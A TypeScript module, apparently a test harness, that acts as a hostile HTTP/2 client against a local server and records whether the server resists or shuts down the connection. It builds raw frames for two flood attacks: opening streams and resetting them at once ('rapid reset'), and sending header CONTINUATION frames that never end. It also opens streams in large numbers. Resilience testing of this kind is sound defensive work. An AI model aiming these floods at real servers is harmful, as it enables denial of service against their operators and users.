/** A hostile HTTP/2 client over a bare socket: it resets streams as soon as they begin. */

const PREFACE = new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

/** Kinds of frames. */
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const GOAWAY = 7;
const CONTINUATION = 9;

/** Flags of frames. */
const END_STREAM = 1;
const END_HEADERS = 4;
const ACK = 1;

/** Counts of a connection. */
export interface Seen {
  /** Frames that were written before the server would take no more. */
  written: number;
  /** Streams that the server answered. */
  answered: number;
  /** The code of its GOAWAY; absent: it sent none. */
  goaway?: number;
  /** True if it closed the connection. */
  closed: boolean;
}

function frame(kind: number, { flags = 0, stream = 0, payload = new Uint8Array() }: {
  flags?: number;
  stream?: number;
  payload?: Uint8Array;
}): Uint8Array {
  const bytes = new Uint8Array(9 + payload.length);
  const view = new DataView(bytes.buffer);
  view.setUint32(0, payload.length << 8);
  bytes[3] = kind;
  bytes[4] = flags;
  view.setUint32(5, stream);
  bytes.set(payload, 9);
  return bytes;
}

/** An HPACK literal without indexing; a name by its number in the static table, or written out. */
function literal(name: number | string, value: string): number[] {
  const text = (text: string) => [text.length, ...new TextEncoder().encode(text)];
  return [...(typeof name === "number" ? [name] : [0, ...text(name)]), ...text(value)];
}

/** The head of `GET path` with a key. */
function head(path: string, key: string): Uint8Array {
  const [get, http, nameOfPath, authority] = [0x82, 0x86, 4, 1];
  return new Uint8Array([
    get,
    http,
    ...literal(nameOfPath, path),
    ...literal(authority, "localhost"),
    ...literal("authorization", `Bearer ${key}`),
  ]);
}

function reset(stream: number): Uint8Array {
  const cancel = 8;
  return frame(RST_STREAM, { stream, payload: new Uint8Array([0, 0, 0, cancel]) });
}

/** Writes frames until the server stops reading, or all are written; then waits a while for its answer. */
async function play(port: number, frames: Iterable<Uint8Array>): Promise<Seen> {
  const seen: Seen = { written: 0, answered: 0, closed: false };
  using connection = await Deno.connect({ hostname: "127.0.0.1", port });
  const reading = read(connection, seen);
  try {
    await connection.write(PREFACE);
    await connection.write(frame(SETTINGS, {}));
    for (const bytes of frames) {
      for (let at = 0; at < bytes.length;) at += await connection.write(bytes.subarray(at));
      seen.written++;
      if (seen.closed) break;
    }
  } catch {
    // It has closed the connection.
  }
  const patience = Promise.withResolvers<void>();
  const timer = setTimeout(patience.resolve, 1_000);
  await Promise.race([reading, patience.promise]);
  clearTimeout(timer);
  return seen;
}

async function read(connection: Deno.Conn, seen: Seen): Promise<void> {
  let rest = new Uint8Array();
  const chunk = new Uint8Array(65_536);
  for (;;) {
    const count = await connection.read(chunk).catch(() => null);
    if (count === null) {
      seen.closed = true;
      return;
    }
    const bytes = new Uint8Array([...rest, ...chunk.subarray(0, count)]);
    let at = 0;
    while (at + 9 <= bytes.length) {
      const view = new DataView(bytes.buffer, at);
      const length = view.getUint32(0) >>> 8;
      if (at + 9 + length > bytes.length) break;
      const kind = bytes[at + 3];
      if (kind === HEADERS) seen.answered++;
      if (kind === GOAWAY) seen.goaway = view.getUint32(9 + 4);
      if (kind === SETTINGS && ((bytes[at + 4] ?? 0) & ACK) === 0) {
        await connection.write(frame(SETTINGS, { flags: ACK })).catch(() => {});
      }
      at += 9 + length;
    }
    rest = bytes.slice(at);
  }
}

/** Opens this many streams and resets each at once. */
export function rapidReset(
  port: number,
  { key, path, streams }: { key: string; path: string; streams: number },
): Promise<Seen> {
  const payload = head(path, key);
  return play(
    port,
    batches(streams, (number) => [
      frame(HEADERS, { flags: END_STREAM | END_HEADERS, stream: number, payload }),
      reset(number),
    ]),
  );
}

/** A head that never ends: the number of pieces, and the bytes of each. */
export function endlessHead(port: number, { pieces, bytes }: { pieces: number; bytes: number }): Promise<Seen> {
  const payload = new Uint8Array(literal("x-more", "a".repeat(100)));
  const piece = new Uint8Array(Math.floor(bytes / payload.length) * payload.length);
  for (let at = 0; at < piece.length; at += payload.length) piece.set(payload, at);
  return play(
    port,
    (function* () {
      yield frame(HEADERS, { stream: 1, payload: head("/v1/models", "x") });
      for (let i = 0; i < pieces; i++) yield frame(CONTINUATION, { stream: 1, payload: piece });
    })(),
  );
}

/** Opens this many streams concurrently, and waits for their answers. */
export function manyStreams(
  port: number,
  { key, path, streams }: { key: string; path: string; streams: number },
): Promise<Seen> {
  const payload = head(path, key);
  return play(
    port,
    batches(streams, (number) => [frame(HEADERS, { flags: END_STREAM | END_HEADERS, stream: number, payload })]),
  );
}

/** Frames of 100 streams at a time. */
function* batches(streams: number, make: (stream: number) => Uint8Array[]): Generator<Uint8Array> {
  for (let first = 0; first < streams; first += 100) {
    const all = Array.from({ length: Math.min(100, streams - first) }, (_, i) => make((first + i) * 2 + 1)).flat();
    const bytes = new Uint8Array(all.reduce((sum, { length }) => sum + length, 0));
    let at = 0;
    for (const one of all) {
      bytes.set(one, at);
      at += one.length;
    }
    yield bytes;
  }
}
